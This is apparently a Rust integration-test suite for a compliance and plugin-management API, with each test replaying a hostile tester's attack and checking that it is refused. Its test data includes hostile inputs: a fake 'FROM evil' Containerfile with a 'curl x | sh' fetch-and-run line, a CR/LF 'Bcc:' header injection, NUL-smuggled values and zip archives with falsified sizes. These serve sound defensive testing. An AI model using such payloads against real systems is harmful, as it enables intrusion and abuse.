//! The second wave tried by a hostile tester (issue 29): each test reproduces an
//! attack first, then checks the refusal in the envelope and that nothing changed.

use super::billing::{override_limits, set_tier, subscription, team_of};
use super::fixtures;
use super::plugins::{manifest, plugin_zip, upload, zip_of, zip_with};
use super::*;
use crate::api::{pagination, Answer};
use adapters::code::ErrorCode;
use adapters::http::wire::{OrgQuotas, Pipeline, Plugin, Portal, Preference, Scan, ScanSchedule};

fn get(path: &str) -> Request<Body> {
    Request::get(path).body(Body::empty()).unwrap()
}

/// A made-up method adds no series to `/metrics`: 300 of them (one 4,000 characters
/// long) fold into the one `other` method, and every family carries `# HELP`.
async fn made_up_methods_do_not_grow_the_metrics(app: &TestApp) {
    let (_, before) = app.send(get("/metrics")).await;
    let before = before.as_str().unwrap().len();
    let long = "X".repeat(4000);
    for i in 0..300 {
        let method = if i == 0 {
            long.clone()
        } else {
            format!("X{i:04}")
        };
        let request = Request::builder()
            .method(method.as_str())
            .uri("/health")
            .body(Body::empty())
            .unwrap();
        let (status, body) = app.send(request).await;
        assert_eq!(code(status, &body), ErrorCode::MethodNotAllowed, "{method}");
    }
    let (_, text) = app.send(get("/metrics")).await;
    let text = text.as_str().unwrap();
    assert!(
        text.len() < before + 4_000,
        "/metrics grew from {before} to {} bytes",
        text.len()
    );
    assert!(
        text.contains(r#"http_requests_total{method="other",route="/health",status="405"} 300"#),
        "{text}"
    );
    assert!(!text.contains("X0001"));
    // Every family is described (promtool's lint).
    for line in text.lines().filter(|l| l.starts_with("# TYPE ")) {
        let name = line.split_whitespace().nth(2).unwrap();
        assert!(
            text.contains(&format!("# HELP {name} ")),
            "{name} has no HELP"
        );
    }
}

/// A NUL in an id, a query or a body string is refused at the edge on every route
/// (404 in the path, 400 elsewhere), in the envelope, and nothing is stored.
async fn nul_bytes_are_refused_at_the_edge_on_every_route(app: &TestApp) {
    let org = app.org("alice", "nul").await;
    let alice = app.token("alice", "alice@example.com");
    let routes = adapters::http::routes::routes();
    for route in &routes {
        // In a path parameter: the id names nothing.
        if route.path.contains('{') {
            let path = route
                .path
                .split('/')
                .map(|part| if part.starts_with('{') { "a%00b" } else { part })
                .collect::<Vec<_>>()
                .join("/");
            let request = Request::builder()
                .method(route.method)
                .uri(&path)
                .header("authorization", format!("Bearer {alice}"))
                .header("x-org-id", org.as_str())
                .body(Body::empty())
                .unwrap();
            let (status, body) = app.send(request).await;
            assert_eq!(
                code(status, &body),
                ErrorCode::NotFound,
                "{} {path}",
                route.method
            );
        }
        let concrete = route
            .path
            .replace("{target}", "plugin")
            .replace('{', "x")
            .replace('}', "");
        // In a query parameter.
        let request = Request::builder()
            .method(route.method)
            .uri(format!("{concrete}?name=a%00&search=%00"))
            .header("authorization", format!("Bearer {alice}"))
            .header("x-org-id", org.as_str())
            .body(Body::empty())
            .unwrap();
        let (status, body) = app.send(request).await;
        assert_eq!(
            code(status, &body),
            ErrorCode::ValidationError,
            "{} {concrete}?",
            route.method
        );
        // In a body string or key: never a 5xx.
        if matches!(route.method, "POST" | "PUT" | "PATCH") {
            let hostile = json!({
                "name": "a\u{0}b", "entityId": "e\u{0}", "userId": "u\u{0}",
                "attributes": {"k\u{0}": "v"}, "email": "a\u{0}@example.com"
            });
            let Answer(status, body) = app
                .by(&alice)
                .org(&org)
                .method(route.method, &concrete)
                .json(hostile)
                .await;
            // (A route that reads no body may succeed: the body is not its input.)
            assert!(
                !status.is_server_error(),
                "{} {concrete}: {status} {body}",
                route.method
            );
            if !status.is_success() {
                code(status, &body);
            }
        }
    }
    // Where the body is read, the refusal is 400 and names the NUL.
    for (path, body) in [
        (
            "/api/compliance/validate/plugin",
            json!({"attributes": {"a": 1}, "entityId": "x\u{0}"}),
        ),
        ("/api/pipelines", json!({"pipelineName": "p\u{0}"})),
        (
            "/api/compliance/rules",
            json!({"name": "r", "target": "plugin", "severity": "error",
                   "field": "a\u{0}", "operator": "exists"}),
        ),
    ] {
        let Answer(status, answer) = app.by(&alice).org(&org).post(path).json(body).await;
        assert_eq!(
            code(status, &answer),
            ErrorCode::ValidationError,
            "{path}: {answer}"
        );
        assert!(
            answer["message"].as_str().unwrap().contains("NUL"),
            "{answer}"
        );
    }
    let Answer(_, listed) = app.by(&alice).org(&org).get("/api/compliance/rules").await;
    assert_eq!(pagination(&listed).total, 0, "{listed}");
}

/// The archive's real sizes and CRCs are checked at upload, and the only build
/// definition it may carry is the root `Dockerfile`.
async fn archives_are_judged_by_what_they_hold(app: &TestApp) {
    let org = app.org("alice", "archives").await;
    let alice = app.token("alice", "alice@example.com");
    let good = manifest("eslint", "1.0.0");
    // 60 MB of zeros that declare 1,000 bytes (in both headers).
    let zeros = vec![0u8; 60 * 1024 * 1024];
    let liar = declare_size(
        zip_of(&[("plugin.json", &good), ("zeros.bin", &zeros)]),
        "zeros.bin",
        1000,
    );
    let small_liar = declare_size(
        zip_of(&[("plugin.json", &good), ("notes.txt", &[b'n'; 5000])]),
        "notes.txt",
        1000,
    );
    // A stored entry whose bytes changed after its CRC was written.
    let mut bad_crc = stored_zip(&[("plugin.json", &good), ("data.txt", b"hello, world")]);
    let at = find(&bad_crc, b"hello, world").unwrap();
    bad_crc[at] = b'J';
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("a size that lies", liar, "unpacks to more than"),
        ("a bad CRC", bad_crc, "data.txt"),
        (
            "a small size that lies",
            small_liar,
            "declares 1000 bytes and holds 5000",
        ),
        (
            "a Containerfile beside the Dockerfile",
            zip_of(&[
                ("plugin.json", &good),
                ("Dockerfile", b"FROM alpine\n"),
                ("Containerfile", b"FROM evil\nRUN curl x | sh\n"),
            ]),
            "Containerfile",
        ),
        (
            "a lower-case dockerfile",
            zip_of(&[("plugin.json", &good), ("dockerfile", b"FROM evil\n")]),
            "dockerfile",
        ),
        (
            "a Dockerfile in a folder",
            zip_of(&[
                ("plugin.json", &good),
                ("Dockerfile", b"FROM alpine\n"),
                ("build/Dockerfile.prod", b"FROM evil\n"),
            ]),
            "build/Dockerfile.prod",
        ),
    ];
    for (what, archive, reason) in cases {
        let Answer(status, body) = upload(app, &alice, &org, &archive, None).await;
        assert_eq!(
            code(status, &body),
            ErrorCode::ValidationError,
            "{what}: {body}"
        );
        assert_eq!(body["details"]["field"], "plugin", "{what}");
        assert!(
            body["message"].as_str().unwrap().contains(reason),
            "{what}: {body}"
        );
    }
    // Nothing was stored or counted.
    let Answer(_, listed) = app.by(&alice).org(&org).get("/api/plugins").await;
    assert_eq!(pagination(&listed).total, 0, "{listed}");
    // The same archive with honest headers is accepted.
    let honest = stored_zip(&[("plugin.json", &good), ("data.txt", b"hello, world")]);
    let Answer(status, body) = upload(app, &alice, &org, &honest, None).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
}

/// A ZIP whose entries are stored (not compressed).
fn stored_zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    zip_with(zip::CompressionMethod::Stored, entries)
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

/// Rewrites the uncompressed size that the local and central headers of `entry`
/// declare.
fn declare_size(mut zip: Vec<u8>, entry: &str, size: u32) -> Vec<u8> {
    let mut at = 0;
    while let Some(found) = find(&zip[at..], entry.as_bytes()) {
        let name_at = at + found;
        // Local header: the name starts 30 bytes after its signature; central: 46.
        for (offset, size_at) in [(30usize, 22usize), (46, 24)] {
            if name_at >= offset {
                let header = name_at - offset;
                let signature: &[u8] = if offset == 30 {
                    b"PK\x03\x04"
                } else {
                    b"PK\x01\x02"
                };
                if &zip[header..header + 4] == signature {
                    zip[header + size_at..header + size_at + 4]
                        .copy_from_slice(&size.to_le_bytes());
                }
            }
        }
        at = name_at + 1;
    }
    zip
}

/// What an account pays for is changed by its root's owner and admins only: an
/// admin of a team (whom the root answers 404) cannot preview, buy, remove or open
/// the portal through `x-org-id: <team>`; a root admin still can, through the team.
async fn a_team_admin_cannot_buy_for_the_root(app: &TestApp) {
    let billing = app
        .beside(&[
            ("BILLING_BUNDLES_ENABLED", "true"),
            ("QUOTA_TIER_PRO_SEATS", "-1"),
            (
                "BILLING_PORTAL_URL",
                "https://billing.example/portal?org={orgId}",
            ),
        ])
        .await;
    let acme = billing.org("alice", "acme").await;
    let alice = billing.token("alice", "alice@example.com");
    set_tier(&billing, &acme, "pro").await;
    let team = team_of(&billing, &alice, &acme, "ops").await;
    // mallory is an admin of the team only; carol an admin of the root.
    for (org, user) in [(&team, "mallory"), (&acme, "carol")] {
        billing
            .by(&alice)
            .post(format!("/api/organization/{org}/members"))
            .json(json!({"userId": user, "role": "admin"}))
            .await
            .expect(StatusCode::CREATED);
    }
    let mallory = billing.token("mallory", "mallory@example.com");
    let carol = billing.token("carol", "carol@example.com");
    let Answer(status, _) = billing
        .by(&mallory)
        .get(format!("/api/organization/{acme}"))
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND, "the root is not mallory's");
    let bought = |token: &str| {
        let token = token.to_owned();
        let billing = &billing;
        let acme = acme.clone();
        async move {
            let sub = subscription(billing, &token, &acme).await;
            (sub.id, sub.addons)
        }
    };
    let (id, before) = bought(&alice).await;
    let pack = json!({"bundleId": "SEAT_PACK", "quantity": 1});
    let attempts: Vec<(&str, String, Option<Value>)> = vec![
        (
            "POST",
            format!("/api/subscriptions/{id}/addons/preview"),
            Some(pack.clone()),
        ),
        (
            "POST",
            format!("/api/subscriptions/{id}/addons"),
            Some(pack.clone()),
        ),
        (
            "DELETE",
            format!("/api/subscriptions/{id}/addons/SEAT_PACK"),
            None,
        ),
        ("POST", "/api/portal".to_owned(), None),
    ];
    for (method, path, body) in &attempts {
        let Answer(status, answer) = billing
            .by(&mallory)
            .org(&team)
            .method(method, path)
            .json_opt(body.clone())
            .await;
        assert_eq!(
            code(status, &answer),
            ErrorCode::Forbidden,
            "{method} {path}: {answer}"
        );
    }
    assert_eq!(bought(&alice).await.1, before, "nothing was bought");
    // Every other route that names an organization by id refuses the root to a team's
    // admin: it is not theirs (404), or not theirs to change (403).
    let others: Vec<(&str, String, Option<Value>)> = vec![
        ("GET", format!("/api/quotas/{acme}"), None),
        ("GET", format!("/api/quotas/{acme}/apiCalls"), None),
        (
            "PUT",
            format!("/api/quotas/{acme}"),
            Some(json!({"tier": "enterprise"})),
        ),
        ("POST", format!("/api/quotas/{acme}/reset"), None),
        (
            "PUT",
            format!("/api/organization/{acme}/seat-limit"),
            Some(json!({"seats": 99})),
        ),
        (
            "PUT",
            format!("/api/organization/{acme}"),
            Some(json!({"displayName": "mine"})),
        ),
        (
            "POST",
            format!("/api/organization/{acme}/members"),
            Some(json!({"userId": "eve"})),
        ),
        (
            "POST",
            format!("/api/organization/{acme}/roles"),
            Some(json!({"name": "R", "permissions": ["billing:manage"]})),
        ),
    ];
    for (method, path, body) in &others {
        let Answer(status, answer) = billing
            .by(&mallory)
            .org(&team)
            .method(method, path)
            .json_opt(body.clone())
            .await;
        assert!(
            matches!(status, StatusCode::NOT_FOUND | StatusCode::FORBIDDEN),
            "{method} {path}: {status} {answer}"
        );
        code(status, &answer);
    }
    // The team's members still read their account (subscription, bundles, quotas).
    for path in ["/api/subscriptions/current", "/api/bundles", "/api/quotas"] {
        let Answer(status, answer) = billing.by(&mallory).org(&team).get(path).await;
        assert_eq!(status, StatusCode::OK, "{path}: {answer}");
    }
    // A root admin acts on the account, through the root or through a team.
    billing
        .by(&carol)
        .org(&team)
        .post(&attempts[1].1)
        .json(pack.clone())
        .await
        .expect(StatusCode::OK);
    billing
        .by(&carol)
        .org(&acme)
        .delete(&attempts[2].1)
        .await
        .expect(StatusCode::OK);
    let portal: Portal = billing
        .by(&carol)
        .org(&team)
        .post("/api/portal")
        .await
        .expect(StatusCode::OK)
        .data();
    assert!(portal.url.ends_with(&acme), "{}", portal.url);
    billing.stop().await;
}

/// With its API calls used up, an organization can still read its quotas, its
/// subscription and the bundles, preview and buy an API pack and open the portal:
/// those routes are open and not counted; everything else is 429.
async fn out_of_api_calls_is_not_out_of_remedy(app: &TestApp) {
    let billing = app
        .beside(&[
            ("BILLING_BUNDLES_ENABLED", "true"),
            (
                "BILLING_PORTAL_URL",
                "https://billing.example/portal?org={orgId}",
            ),
        ])
        .await;
    let acme = billing.org("alice", "acme").await;
    let alice = billing.token("alice", "alice@example.com");
    set_tier(&billing, &acme, "pro").await;
    let id = subscription(&billing, &alice, &acme).await.id;
    let api_calls_used = || async {
        let quotas: OrgQuotas = billing
            .by(&alice)
            .org(&acme)
            .get("/api/quotas")
            .await
            .data();
        quotas.quotas["apiCalls"].used
    };
    let used = api_calls_used().await;
    override_limits(&billing, &acme, json!({"apiCalls": used})).await;
    let Answer(status, body) = billing.by(&alice).org(&acme).get("/api/pipelines").await;
    assert_eq!(code(status, &body), ErrorCode::QuotaExceeded);
    let pack = json!({"bundleId": "API_PACK", "quantity": 1});
    for (method, path, body) in [
        ("GET", "/api/quotas".to_owned(), None),
        ("GET", format!("/api/quotas/{acme}/apiCalls"), None),
        ("GET", format!("/api/quotas/{acme}"), None),
        ("GET", "/api/subscriptions/current".to_owned(), None),
        ("GET", "/api/bundles".to_owned(), None),
        (
            "POST",
            format!("/api/subscriptions/{id}/addons/preview"),
            Some(pack.clone()),
        ),
        ("POST", "/api/portal".to_owned(), None),
    ] {
        let Answer(status, answer) = billing
            .by(&alice)
            .org(&acme)
            .method(method, &path)
            .json_opt(body)
            .await;
        assert_eq!(status, StatusCode::OK, "{method} {path}: {answer}");
    }
    assert_eq!(api_calls_used().await, used, "none of those was counted");
    // Buying the pack lifts the limit: ordinary requests pass again.
    billing
        .by(&alice)
        .org(&acme)
        .post(format!("/api/subscriptions/{id}/addons"))
        .json(pack)
        .await
        .expect(StatusCode::OK);
    billing.stop().await;
}

/// A Member changes only what they created; Admin and Owner change anyone's, and so
/// does a custom Role holding the kind's `publish` permission.
async fn a_member_changes_only_their_own(app: &TestApp) {
    let acme = app.org("alice", "acme").await;
    let alice = app.token("alice", "alice@example.com");
    for (user, role) in [("bob", "member"), ("carol", "admin"), ("dave", "member")] {
        app.by(&alice)
            .post(format!("/api/organization/{acme}/members"))
            .json(json!({"userId": user, "role": role}))
            .await
            .expect(StatusCode::CREATED);
    }
    let bob = app.token("bob", "bob@example.com");
    let carol = app.token("carol", "carol@example.com");
    let dave = app.token("dave", "dave@example.com");
    let create = |token: String, name: &'static str| {
        let body = fixtures::pipeline(name);
        let acme = acme.clone();
        async move {
            app.by(&token)
                .org(&acme)
                .post("/api/pipelines")
                .json(body)
                .await
                .expect(StatusCode::CREATED)
                .id()
        }
    };
    let admins = create(alice.clone(), "admins").await;
    let bobs = create(bob.clone(), "bobs").await;
    let plugin_of = |token: String, name: &'static str| {
        let acme = acme.clone();
        async move {
            upload(app, &token, &acme, &plugin_zip(name, "1.0.0"), None)
                .await
                .expect(StatusCode::CREATED)
                .id()
        }
    };
    let admins_plugin = plugin_of(alice.clone(), "admins-lint").await;
    let bobs_plugin = plugin_of(bob.clone(), "bobs-lint").await;

    // bob, a Member, cannot update, delete or deactivate alice's.
    let refused: Vec<(&str, String, Option<Value>)> = vec![
        (
            "PUT",
            format!("/api/pipelines/{admins}"),
            Some(fixtures::pipeline("taken")),
        ),
        ("DELETE", format!("/api/pipelines/{admins}"), None),
        (
            "PUT",
            format!("/api/plugins/{admins_plugin}"),
            Some(json!({"description": "mine now"})),
        ),
        ("DELETE", format!("/api/plugins/{admins_plugin}"), None),
        (
            "PUT",
            "/api/plugins/bulk/update".to_owned(),
            Some(json!({"plugins": [{"id": bobs_plugin, "isActive": false},
                                    {"id": admins_plugin, "isActive": false}]})),
        ),
    ];
    for (method, path, body) in &refused {
        let Answer(status, answer) = app
            .by(&bob)
            .org(&acme)
            .method(method, path)
            .json_opt(body.clone())
            .await;
        assert_eq!(
            code(status, &answer),
            ErrorCode::Forbidden,
            "{method} {path}: {answer}"
        );
    }
    // Nothing changed, not even bob's own plugin in the refused bulk change.
    let pipeline: Pipeline = app
        .by(&alice)
        .org(&acme)
        .get(format!("/api/pipelines/{admins}"))
        .await
        .data();
    assert_eq!(pipeline.pipeline_name, "admins");
    for id in [&admins_plugin, &bobs_plugin] {
        let plugin: Plugin = app
            .by(&alice)
            .org(&acme)
            .get(format!("/api/plugins/{id}"))
            .await
            .data();
        assert!(plugin.is_active, "{id}");
    }
    // bob changes his own.
    app.by(&bob)
        .org(&acme)
        .put(format!("/api/pipelines/{bobs}"))
        .json(fixtures::pipeline("bobs-2"))
        .await
        .expect(StatusCode::OK);
    app.by(&bob)
        .org(&acme)
        .put("/api/plugins/bulk/update")
        .json(json!({"plugins": [{"id": bobs_plugin, "isActive": false}]}))
        .await
        .expect(StatusCode::OK);
    // carol, an Admin, changes anyone's.
    app.by(&carol)
        .org(&acme)
        .put(format!("/api/plugins/{bobs_plugin}"))
        .json(json!({"description": "by carol"}))
        .await
        .expect(StatusCode::OK);
    // dave holds a custom Role with `pipelines:publish`: anyone's pipelines, not plugins.
    let role_id = app
        .by(&alice).post(format!("/api/organization/{acme}/roles")).json(json!({"name": "Pipeline Keepers", "permissions": ["pipelines:write", "pipelines:publish"]}))
        .await
        .expect(StatusCode::CREATED)
        .id();
    let Answer(status, answer) = app
        .by(&alice)
        .post(format!("/api/organization/{acme}/roles/{role_id}/members"))
        .json(json!({"userId": "dave"}))
        .await;
    assert!(status.is_success(), "{answer}");
    app.by(&dave)
        .org(&acme)
        .delete(format!("/api/pipelines/{bobs}"))
        .await
        .expect(StatusCode::OK);
    app.by(&dave)
        .org(&acme)
        .delete(format!("/api/plugins/{admins_plugin}"))
        .await
        .refused(ErrorCode::Forbidden);
    // The Owner too.
    app.by(&alice)
        .org(&acme)
        .delete(format!("/api/plugins/{bobs_plugin}"))
        .await
        .expect(StatusCode::OK);
}

/// A proxy that counts the connections it is offered and answers 502.
async fn counting_proxy() -> (String, Arc<std::sync::atomic::AtomicUsize>) {
    use tokio::io::AsyncWriteExt;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let seen = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = seen.clone();
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let _ = socket
                .write_all(
                    b"HTTP/1.1 502 Bad Gateway\r\ncontent-length: 0\r\nconnection: close\r\n\r\n",
                )
                .await;
        }
    });
    (url, seen)
}

/// A real server process whose environment names a proxy: webhook deliveries go
/// straight to the address that was checked, never through the proxy; with
/// `WEBHOOK_PROXY_URL`, through that one.
#[tokio::test]
async fn webhook_delivery_ignores_the_environments_proxy() {
    use super::crash::{create_org, free_port, start_with, user_token, wait_healthy};
    use super::notifications::{webhook_receiver, Seen};
    let (proxy, offered) = counting_proxy().await;
    for explicit in [false, true] {
        let seen = Arc::new(Seen::default());
        let hook = webhook_receiver(seen.clone()).await;
        let path =
            std::env::temp_dir().join(format!("compliance-proxy-{}.db", uuid::Uuid::new_v4()));
        let port = free_port();
        let mut vars = vec![
            ("HTTP_PROXY", proxy.as_str()),
            ("HTTPS_PROXY", proxy.as_str()),
            ("ALL_PROXY", proxy.as_str()),
            ("http_proxy", proxy.as_str()),
            ("WEBHOOK_ALLOW_PRIVATE", "true"),
            ("NOTIFY_POLL_MS", "50"),
        ];
        if explicit {
            vars.push(("WEBHOOK_PROXY_URL", proxy.as_str()));
        }
        let _server = start_with(&format!("sqlite://{}", path.display()), port, &vars);
        let base = format!("http://127.0.0.1:{port}");
        let client = reqwest::Client::builder().no_proxy().build().unwrap();
        wait_healthy(&client, &base).await;
        let alice = user_token("alice");
        let org = create_org(&client, &base, &alice, "acme").await;
        let send = |method: reqwest::Method, path: &str, body: Value| {
            client
                .request(method, format!("{base}{path}"))
                .bearer_auth(&alice)
                .header("x-org-id", &org)
                .json(&body)
                .send()
        };
        let rule = json!({"name": "Private only", "target": "pipeline", "severity": "error",
                          "field": "accessModifier", "operator": "eq", "value": "private"});
        assert_eq!(
            send(reqwest::Method::POST, "/api/compliance/rules", rule)
                .await
                .unwrap()
                .status(),
            201
        );
        let preference = json!({"webhookUrl": hook});
        assert_eq!(
            send(
                reqwest::Method::PUT,
                "/api/compliance/notification-preferences",
                preference
            )
            .await
            .unwrap()
            .status(),
            200
        );
        let pipeline = fixtures::pipeline_as("deploy", "public");
        assert_eq!(
            send(reqwest::Method::POST, "/api/pipelines", pipeline)
                .await
                .unwrap()
                .status(),
            403
        );
        let before = offered.load(std::sync::atomic::Ordering::SeqCst);
        for _ in 0..200 {
            let delivered = !seen.requests.lock().unwrap().is_empty();
            let proxied = offered.load(std::sync::atomic::Ordering::SeqCst) > before;
            if delivered || proxied {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        }
        if explicit {
            assert!(
                offered.load(std::sync::atomic::Ordering::SeqCst) > 0,
                "WEBHOOK_PROXY_URL is used"
            );
            assert!(seen.requests.lock().unwrap().is_empty());
        } else {
            assert_eq!(seen.requests.lock().unwrap().len(), 1, "delivered directly");
            assert_eq!(
                offered.load(std::sync::atomic::Ordering::SeqCst),
                0,
                "the environment's proxy was used"
            );
        }
    }
}

/// `null` for a nullable preference clears it; `null` elsewhere is 400; a target user
/// is an e-mail address (CR/LF refused); nothing is silently ignored.
async fn preferences_clear_or_refuse_never_ignore(app: &TestApp) {
    let lenient = app.beside(&[("WEBHOOK_ALLOW_PRIVATE", "true")]).await;
    let org = lenient.org("alice", "prefs").await;
    let alice = lenient.token("alice", "alice@example.com");
    let save = |body: Value| {
        let lenient = &lenient;
        let alice = alice.clone();
        let org = org.clone();
        async move {
            lenient
                .by(&alice)
                .org(&org)
                .put("/api/compliance/notification-preferences")
                .json(body)
                .await
        }
    };
    let saved: Preference = save(json!({"webhookUrl": "http://127.0.0.1:9/hook",
                                      "webhookSecret": "s3cret",
                                      "targetUsers": ["ops@example.com", "sec@example.com"]}))
    .await
    .expect(StatusCode::OK)
    .data();
    assert_eq!(
        saved.target_users,
        Some(vec![
            "ops@example.com".to_owned(),
            "sec@example.com".to_owned()
        ])
    );
    // null clears.
    let cleared: Preference =
        save(json!({"webhookUrl": null, "targetUsers": null, "webhookSecret": null}))
            .await
            .expect(StatusCode::OK)
            .data();
    assert_eq!(
        (
            cleared.webhook_url,
            cleared.target_users,
            cleared.has_webhook_secret
        ),
        (None, None, false)
    );
    // null where no value can be cleared, and addresses that are not addresses: 400,
    // and nothing changes.
    let before: Preference =
        save(json!({"targetUsers": ["ops@example.com"], "emailEnabled": true}))
            .await
            .data();
    for (field, bad) in [
        ("emailEnabled", json!({"emailEnabled": null})),
        ("digestMode", json!({"digestMode": null})),
        ("notifyWarnings", json!({"notifyWarnings": null})),
        (
            "targetUsers",
            json!({"targetUsers": ["ops@example.com\r\nBcc: all@example.com"]}),
        ),
        ("targetUsers", json!({"targetUsers": ["ops@example.com\n"]})),
        ("targetUsers", json!({"targetUsers": ["not an address"]})),
        (
            "targetUsers",
            json!({"targetUsers": ["Ops <ops@example.com>"]}),
        ),
        ("targetUsers", json!({"targetUsers": [""]})),
    ] {
        let Answer(status, answer) = save(bad.clone()).await;
        assert_eq!(
            code(status, &answer),
            ErrorCode::ValidationError,
            "{bad}: {answer}"
        );
        assert!(
            answer["message"].as_str().unwrap().contains(field),
            "{bad}: {answer}"
        );
    }
    let after: Preference = lenient
        .by(&alice)
        .org(&org)
        .get("/api/compliance/notification-preferences")
        .await
        .data();
    assert_eq!(after, before, "a refused change changed nothing");
    lenient.stop().await;
}

/// Schedules that could never run are refused with `INVALID_CRON`, on create and on
/// change; nothing is saved.
async fn schedules_that_can_never_run_are_refused(app: &TestApp) {
    let org = app.org("alice", "cron").await;
    let alice = app.token("alice", "alice@example.com");
    let id = app
        .by(&alice)
        .org(&org)
        .post("/api/compliance/scan-schedules")
        .json(json!({"target": "pipeline", "cronExpression": "0 3 * * *"}))
        .await
        .expect(StatusCode::CREATED)
        .id();
    for never in ["0 0 30 2 *", "0 0 31 4 *", "0 0 31 2,4,6,9,11 *"] {
        let Answer(status, body) = app
            .by(&alice)
            .org(&org)
            .post("/api/compliance/scan-schedules")
            .json(json!({"target": "pipeline", "cronExpression": never}))
            .await;
        assert_eq!(
            code(status, &body),
            ErrorCode::InvalidCron,
            "{never}: {body}"
        );
        assert!(
            body["message"].as_str().unwrap().contains("dayOfMonth"),
            "{body}"
        );
        let Answer(status, body) = app
            .by(&alice)
            .org(&org)
            .put(format!("/api/compliance/scan-schedules/{id}"))
            .json(json!({"cronExpression": never}))
            .await;
        assert_eq!(
            code(status, &body),
            ErrorCode::InvalidCron,
            "{never}: {body}"
        );
    }
    let Answer(_, listed) = app
        .by(&alice)
        .org(&org)
        .get("/api/compliance/scan-schedules")
        .await;
    assert_eq!(pagination(&listed).total, 1, "{listed}");
    let schedules = listed["schedules"].as_array().unwrap();
    assert_eq!(schedules[0]["cronExpression"], "0 3 * * *", "{listed}");
    // A leap day is possible.
    let leap: ScanSchedule = app
        .by(&alice)
        .org(&org)
        .post("/api/compliance/scan-schedules")
        .json(json!({"target": "pipeline", "cronExpression": "0 0 29 2 *"}))
        .await
        .expect(StatusCode::CREATED)
        .data();
    assert!(leap.next_run_at.is_some(), "{leap:?}");
}

/// A second scan of the same target while one runs is 409; schedules per
/// organization stop at `COMPLIANCE_MAX_SCHEDULES_PER_ORG` (creating, or turning one
/// on again), also under concurrent creates.
async fn work_per_organization_is_bounded(app: &TestApp) {
    let capped = app
        .beside(&[("COMPLIANCE_MAX_SCHEDULES_PER_ORG", "3")])
        .await;
    let org = capped.org("alice", "bounded").await;
    let alice = capped.token("alice", "alice@example.com");
    let scan = |target: &'static str| {
        let capped = &capped;
        let alice = alice.clone();
        let org = org.clone();
        async move {
            capped
                .by(&alice)
                .org(&org)
                .post("/api/compliance/scans")
                .json(json!({"target": target}))
                .await
        }
    };
    let first: Scan = scan("pipeline").await.expect(StatusCode::ACCEPTED).data();
    for _ in 0..3 {
        let Answer(status, body) = scan("pipeline").await;
        assert_eq!(code(status, &body), ErrorCode::Conflict, "{body}");
    }
    let Answer(status, body) = scan("plugin").await;
    assert_eq!(status, StatusCode::ACCEPTED, "another target: {body}");
    let Answer(_, listed) = capped
        .by(&alice)
        .org(&org)
        .get("/api/compliance/scans")
        .await;
    assert_eq!(pagination(&listed).total, 2, "{listed}");
    // Once the first ends (cancelled here), the target can be scanned again.
    let first_id = first.id;
    capped
        .by(&alice)
        .org(&org)
        .post(format!("/api/compliance/scans/{first_id}/cancel"))
        .await
        .expect(StatusCode::OK);
    let Answer(status, body) = scan("pipeline").await;
    assert_eq!(status, StatusCode::ACCEPTED, "{body}");

    // Six concurrent creates against a cap of three: three land.
    let requests = (0..6)
        .map(|i| {
            app.by(&alice)
                .org(&org)
                .post("/api/compliance/scan-schedules")
                .json(json!({"target": "pipeline", "cronExpression": format!("{i} 3 * * *")}))
                .request()
        })
        .collect();
    let answers = capped.concurrently(requests).await;
    let created: Vec<ScanSchedule> = answers
        .iter()
        .filter(|(status, _)| *status == StatusCode::CREATED)
        .map(|answer| Answer::from(answer.clone()).data())
        .collect();
    assert_eq!(created.len(), 3, "{answers:?}");
    for (status, body) in answers.iter().filter(|(s, _)| *s != StatusCode::CREATED) {
        assert_eq!(code(*status, body), ErrorCode::Conflict, "{body}");
        assert!(body["message"]
            .as_str()
            .unwrap()
            .contains("COMPLIANCE_MAX_SCHEDULES_PER_ORG"));
    }
    // Deactivating one makes room; turning it on again while full is refused.
    let one = &created[0].id;
    capped
        .by(&alice)
        .org(&org)
        .delete(format!("/api/compliance/scan-schedules/{one}"))
        .await
        .expect(StatusCode::OK);
    capped
        .by(&alice)
        .org(&org)
        .post("/api/compliance/scan-schedules")
        .json(json!({"target": "plugin", "cronExpression": "0 4 * * *"}))
        .await
        .expect(StatusCode::CREATED);
    capped
        .by(&alice)
        .org(&org)
        .patch(format!("/api/compliance/scan-schedules/{one}/active"))
        .json(json!({"isActive": true}))
        .await
        .refused(ErrorCode::Conflict);
    capped.stop().await;
}

/// One invitation accepted six times at once: one 201, five 409 (as a retry after
/// it gets), one membership, one audit event.
async fn racing_acceptances_lose_with_409(app: &TestApp) {
    let acme = app.org("alice", "acme").await;
    let alice = app.token("alice", "alice@example.com");
    let id = app
        .by(&alice)
        .org(&acme)
        .post("/api/invitation/send")
        .json(json!({"email": "carol@example.com", "role": "member"}))
        .await
        .expect(StatusCode::CREATED)
        .id();
    let carol = app.token("carol", "carol@example.com");
    let accept = format!("/api/invitation/{id}/accept");
    let requests = (0..6)
        .map(|_| app.by(&carol).post(&accept).request())
        .collect();
    let answers = app.concurrently(requests).await;
    let won = answers
        .iter()
        .filter(|(status, _)| *status == StatusCode::CREATED)
        .count();
    assert_eq!(won, 1, "{answers:?}");
    for (status, body) in answers.iter().filter(|(s, _)| *s != StatusCode::CREATED) {
        assert_eq!(code(*status, body), ErrorCode::Conflict, "{answers:?}");
    }
    let Answer(status, body) = app
        .by(&carol)
        .post(format!("/api/invitation/{id}/accept"))
        .await;
    assert_eq!(code(status, &body), ErrorCode::Conflict, "a retry: {body}");
    assert_eq!(app.audited("invitation.accept").await.len(), 1);
}

/// An event the server refuses (a NUL in it: 400 on both backends) is counted
/// dropped by the audit client and does not hold back the spool behind it.
async fn a_refused_event_does_not_hold_back_the_spool(app: &TestApp) {
    use adapters::emitter::{AuditClient, Delivery, OutgoingEvent};
    let port = super::crash::free_port();
    let spool = std::env::temp_dir().join(format!("spool-{}", uuid::Uuid::new_v4()));
    let client = AuditClient::new(
        &format!("http://127.0.0.1:{port}"),
        &app.service_token("pipeline"),
        &spool,
        10,
    )
    .unwrap();
